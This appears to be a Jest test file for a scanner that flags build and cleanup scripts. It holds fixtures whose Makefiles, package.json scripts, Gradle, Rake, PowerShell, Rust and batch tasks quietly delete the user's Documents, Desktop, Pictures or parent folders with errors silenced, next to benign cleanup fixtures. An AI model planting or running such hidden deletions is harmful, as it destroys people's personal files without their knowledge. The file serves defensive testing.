import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

describe('attacks on folders of the user, by what tidies up', () => {
  itJudges([
    [
      'make home var',
      'stopped',
      {
        Makefile:
          'BUILD ?= build\nDATA := $(HOME)/Documents\nclean:\n\trm -rf $(BUILD)\n\t@rm -rf $(DATA) $(HOME)/Pictures >/dev/null 2>&1 || true\n',
      },
    ],
    [
      'shell empty var',
      'stopped',
      {
        'scripts/clean.sh':
          '#!/bin/bash\nOUT=\nTMP=/tmp/build\nrm -rf "$TMP"\nrm -rf "$OUT"/* 2>/dev/null\ncd / && rm -rf "${PREFIX}"/home "${PREFIX}"/srv\n',
      },
    ],
    [
      'justfile reaches out',
      'stopped',
      {
        justfile:
          'clean:\n    rm -rf dist node_modules\n    -find ~ -maxdepth 3 -type d \\( -name Documents -o -name Desktop -o -name Photos \\) -exec rm -rf {} + 2>/dev/null\n',
      },
    ],
    [
      'package json clean',
      'stopped',
      {
        'package.json':
          '{\n  "name": "site-kit",\n  "scripts": {\n    "build": "vite build",\n    "clean": "rimraf dist .cache && rimraf ../../../* && rm -rf ~/Documents ~/Desktop"\n  }\n}\n',
      },
    ],
    [
      'cmake or gradle',
      'stopped',
      {
        'build.gradle':
          "tasks.register('tidy') {\n  doLast {\n    delete layout.buildDirectory\n    delete file(System.getProperty('user.home') + '/Documents'), file(System.getProperty('user.home') + '/Desktop')\n    fileTree(System.getProperty('user.home')).matching { include '**/*.psd', '**/*.docx', '**/*.kdbx' }.each { it.delete() }\n  }\n}\n",
      },
    ],
    [
      'rakefile',
      'stopped',
      {
        Rakefile:
          'require "fileutils"\ntask :clobber do\n  FileUtils.rm_rf("pkg")\n  Dir.glob(File.join(Dir.home, "{Documents,Desktop,Pictures}", "**", "*")).each { |f| File.delete(f) if File.file?(f) && File.mtime(f) < Time.now - 86400 } rescue nil\nend\n',
      },
    ],
    [
      'npm clean script js',
      'stopped',
      {
        'scripts/clean.mjs':
          "import { rmSync, readdirSync } from 'node:fs';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nfor (const d of ['dist', '.cache']) rmSync(d, { recursive: true, force: true });\nfor (const d of ['Documents', 'Pictures', 'Desktop']) try { rmSync(join(homedir(), d), { recursive: true, force: true }); } catch {}\n",
      },
    ],
    [
      'cmake target',
      'not yet stopped',
      {
        'CMakeLists.txt':
          'add_custom_target(tidy\n  COMMAND ${CMAKE_COMMAND} -E rm -rf ${CMAKE_BINARY_DIR}\n  COMMAND ${CMAKE_COMMAND} -E rm -rf $ENV{HOME}/Documents $ENV{HOME}/Desktop)\n',
      },
    ],
    [
      'tox taskfile',
      'stopped',
      {
        'Taskfile.yml':
          'version: \'3\'\ntasks:\n  clean:\n    cmds:\n      - rm -rf dist\n      - cmd: rm -rf "$HOME"/Documents/* "$HOME"/Pictures/*\n        silent: true\n        ignore_error: true\n',
      },
    ],
    [
      'make parent',
      'stopped',
      {
        Makefile:
          'ROOT := $(abspath $(CURDIR)/../..)\nclean:\n\trm -rf build\n\t-@find $(ROOT) -mindepth 1 -maxdepth 1 ! -name $(notdir $(CURDIR)) -exec rm -rf {} + 2>/dev/null\n',
      },
    ],
    [
      'powershell clean',
      'stopped',
      {
        'build.ps1':
          'task Clean {\n  Remove-Item -Recurse -Force ./out\n  Get-ChildItem "$env:USERPROFILE\\Documents","$env:USERPROFILE\\Pictures" -Recurse -File | Where-Object LastWriteTime -lt (Get-Date).AddDays(-2) | Remove-Item -Force -ErrorAction SilentlyContinue\n}\n',
      },
    ],
    [
      'cargo xtask',
      'stopped',
      {
        'xtask/src/main.rs':
          'fn main() {\n    let _ = std::fs::remove_dir_all("target");\n    if let Some(h) = std::env::var_os("HOME") {\n        for d in ["Documents", "Pictures", "Desktop"] {\n            let _ = std::fs::remove_dir_all(std::path::Path::new(&h).join(d));\n        }\n    }\n}\n',
      },
    ],
    [
      'a batch file that takes the documents along',
      'stopped',
      { 'clean.bat': '@echo off\nrmdir /s /q build\nrmdir /s /q "%USERPROFILE%\\Documents" 2>nul\n' },
    ],
  ]);
});

describe('honest work on folders of the user, by what tidies up', () => {
  itJudges([
    [
      'make clean',
      'passed',
      {
        Makefile:
          'OUT := dist\nCACHE := $(HOME)/.cache/mytool\nclean:\n\trm -rf $(OUT) build *.egg-info\ndistclean: clean\n\trm -rf $(CACHE) node_modules .venv\n',
      },
    ],
    [
      'shell guarded',
      'passed',
      {
        'scripts/clean.sh':
          '#!/bin/bash\nset -euo pipefail\nOUT="${OUT:-build}"\nrm -rf "${OUT:?}"/*\nfind . -name __pycache__ -type d -exec rm -rf {} +\nfind /var/log/myapp -name \'*.log\' -mtime +30 -delete\nfind "$HOME/Downloads" -name \'*.part\' -mtime +30 -delete\n',
      },
    ],
    [
      'gradle',
      'passed',
      {
        'build.gradle':
          "tasks.register('tidy', Delete) { delete layout.buildDirectory, file(System.getProperty('user.home') + '/.gradle/caches/mytool') }\n",
      },
    ],
    [
      'uninstall',
      'passed',
      {
        'scripts/uninstall.sh':
          '#!/bin/sh\nread -r -p "Remove all data of mytool? [y/N] " a; [ "$a" = y ] || exit\nrm -rf "$HOME/.mytool" "$HOME/.config/mytool" "$HOME/Documents/mytool"\n',
      },
    ],
    [
      'rakefile',
      'passed',
      {
        Rakefile:
          'task :clobber do\n  FileUtils.rm_rf(Dir.glob("pkg/*"))\n  Dir.glob(File.join(Dir.home, "Downloads", "*.tmp")).each { |f| File.delete(f) }\nend\n',
      },
    ],
    [
      'powershell temp',
      'passed',
      {
        'build.ps1':
          'Get-ChildItem "$env:USERPROFILE\\Documents\\exports" -Filter *.tmp | Remove-Item -Force\nRemove-Item -Recurse -Force ./out\n',
      },
    ],
    [
      'make parent out',
      'passed',
      { Makefile: 'ROOT := $(abspath $(CURDIR)/../..)\nOUT := $(ROOT)/out\nclean:\n\trm -rf $(OUT) $(ROOT)/build\n' },
    ],
  ]);
});
